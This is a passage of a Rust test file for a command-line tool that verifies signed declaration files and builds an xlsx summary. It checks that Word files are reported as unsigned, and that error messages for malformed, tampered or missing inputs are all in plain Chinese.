        own[1..own.len() - 6],
        rows[1][1..own.len() - 6],
        "our own Word copy: the same declaration as the signed file"
    );

    // The workbook: the Word files counted apart from the valid files.
    let target = dir.join("汇总.xlsx");
    let args: Vec<&OsStr> = [os("summary"), os("--xlsx"), target.as_os_str()]
        .into_iter()
        .chain(paths[..paths.len() - 1].iter().map(|p| p.as_os_str()))
        .collect();
    let (code, out, err) = run_with(&args);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("签名有效的文件 1 份，Word 文件（未签名） 6 份，无效文件 0 份"),
        "{out}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// `verify` never calls a Word file 有效: it is "未签名的 Word 文件", listed after the signed
/// files, and the exit status is 1.
#[test]
fn verify_says_a_word_file_is_unsigned() {
    let dir = temp_dir("verify-word");
    let signed = signed_file(&dir, "a.json", |_| {});
    let filled = word_fixture(&dir, "filled.docx");
    let picture = dir.join("扫描件.docx");
    std::fs::write(&picture, b"\x89PNG\r\n\x1a\n").unwrap();
    let (code, out, err) = run_with(&[
        os("verify"),
        filled.as_os_str(),
        signed.as_os_str(),
        picture.as_os_str(),
    ]);
    assert_eq!(code, 1, "{err}");
    let lines: Vec<Vec<&str>> = out.lines().map(|l| l.split('\t').collect()).collect();
    assert_eq!(lines.len(), 3, "{out}");
    assert!(lines[0][1].starts_with("有效"), "{out}");
    assert_eq!(lines[1][0], filled.to_string_lossy());
    assert_eq!(lines[1][1], "未签名的 Word 文件");
    assert!(
        lines[1][2].starts_with("Word 文件没有签名，不能核验；共 "),
        "{out}"
    );
    assert_eq!(lines[1][4], "桐庐县");
    assert_eq!(lines[1][5], "桐庐富春江美镇圈");
    assert_eq!(lines[2][1], "无效");
    assert!(lines[2][2].starts_with("这是一张图片"), "{out}");
    assert!(lines.iter().all(|l| l.len() == 8), "{out}");
    let (code, out, _) = run_with(&[os("verify"), filled.as_os_str()]);
    assert_eq!(code, 1, "a Word file alone is never a verified run");
    assert!(!out.contains("\t有效"), "{out}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// Every message the command line prints is plain Chinese, as the page's are: a table of hostile
/// inputs and misuses, each run, its output checked word by word (the words of the command line
/// itself and the file names given are not messages). "不是有效的 JSON：expected value at line 1
/// column 1" printed the parser's English before.
#[test]
fn every_command_line_message_is_plain_chinese() {
    use meizhen_shenbao::model::plain_words::technical_words;
    let dir = temp_dir("plain-words");
    let file = |name: &str, bytes: &[u8]| {
        let path = dir.join(name);
        std::fs::write(&path, bytes).unwrap();
        path.to_string_lossy().into_owned()
    };
    let good = signed_file(&dir, "有效.json", |_| {});
    let good_text = std::fs::read_to_string(&good).unwrap();
    let good = good.to_string_lossy().into_owned();
    let cases: Vec<(&str, Vec<String>)> = vec![
        (
            "not JSON",
            vec!["verify".into(), file("乱码.json", b"not json at all")],
        ),
        ("empty", vec!["verify".into(), file("空.json", b"")]),
        (
            "truncated",
            vec![
                "verify".into(),
                file("截断.json", &good_text.as_bytes()[..100]),
            ],
        ),
        (
            "a BOM",
            vec![
                "verify".into(),
                file("带BOM.json", format!("\u{feff}{good_text}").as_bytes()),
            ],
        ),
        (
            "a JSON array",
            vec!["verify".into(), file("数组.json", b"[1,2]")],
        ),
        (
            "another format",
            vec![
                "verify".into(),
                file("别的.json", br#"{"format":"x","version":1}"#),
            ],
        ),
        (
            "a duplicate key",
            vec![
                "verify".into(),
                file(
                    "重复.json",
                    good_text.replacen("{", r#"{"format":"x","#, 1).as_bytes(),
                ),
            ],
        ),
        (
            "an unknown field",
            vec![
                "verify".into(),
                file(
                    "多余.json",
                    good_text.replacen("{", r#"{"extra":1,"#, 1).as_bytes(),
                ),
            ],
        ),
        (
            "tampered",
            vec![
                "verify".into(),
                file(
                    "改动.json",
                    good_text
                        .replacen("桐庐富春江美镇圈", "桐庐富春江美镇带", 1)
                        .as_bytes(),
                ),
            ],
        ),
        (
            "a bad signed time",
            vec![
                "verify".into(),
                file(
                    "时间.json",
                    good_text
                        .replacen("2021-06-30T08:00:00Z", "yesterday", 1)
                        .as_bytes(),
                ),
            ],
        ),
        (
            "missing",
            vec![
                "verify".into(),
                dir.join("不存在.json").to_string_lossy().into_owned(),
            ],
        ),
        (
            "a folder",
            vec!["verify".into(), dir.to_string_lossy().into_owned()],
        ),
        (
            "a bad key list",
            vec![
                "verify".into(),
                "--keys".into(),
                file("密钥.txt", b"zz \xe6\xa1\x90\n1234\n"),
                good.clone(),
            ],
        ),
        (
            "a missing key list",
            vec![
                "verify".into(),
                "--keys".into(),
                dir.join("无.txt").to_string_lossy().into_owned(),
                good.clone(),
            ],
        ),
        (
            "summary of bad files",
            vec!["summary".into(), file("坏.json", b"{"), good.clone()],
        ),
        (
            "xlsx into a missing folder",
            vec![
                "summary".into(),
                "--xlsx".into(),
                dir.join("无此目录")
                    .join("汇总.xlsx")
                    .to_string_lossy()
                    .into_owned(),
                good.clone(),
            ],
        ),
        ("unknown command", vec!["check".into()]),
        (
            "unknown option",
            vec!["verify".into(), "--fast".into(), good.clone()],
        ),
        (
            "option with a value",
            vec!["verify".into(), "--help=x".into()],
        ),
        ("no files", vec!["verify".into()]),
    ];
    // The command line's own words, and the parts of the file names given.
    let own = [
        "meizhen", "help", "verify", "summary", "keys", "xlsx", "version", "json", "txt", "BOM",
    ];
    let dir_text = dir.to_string_lossy().into_owned();
    let mut checked = 0;
    for (case, args) in &cases {
        let args: Vec<&OsStr> = args.iter().map(OsStr::new).collect();
        let (_, stdout, stderr) = run_with(&args);
        // `summary` writes the table (data, not messages) to standard output.
        let shown = if args[0] == "summary" {
            ""
        } else {
            stdout.as_str()
        };
        let text = format!("{shown}\n{stderr}").replace(&dir_text, "");
        let words: Vec<String> = technical_words(&text)
            .into_iter()
            // What the user typed is quoted back as typed.
            .filter(|w| {
                !own.contains(&w.as_str())
                    && !args
                        .iter()
                        .any(|a| a.to_string_lossy().contains(w.as_str()))
            })
            // Fingerprints in groups of four hex digits are what the paper prints.
            .filter(|w| !(w.len() == 4 && w.chars().all(|c| c.is_ascii_hexdigit())))
            .collect();
        assert!(words.is_empty(), "{case}: {words:?} in\n{text}");
        assert!(!text.trim().is_empty(), "{case}: says something");
        checked += 1;
    }
    assert_eq!(checked, 20);
}
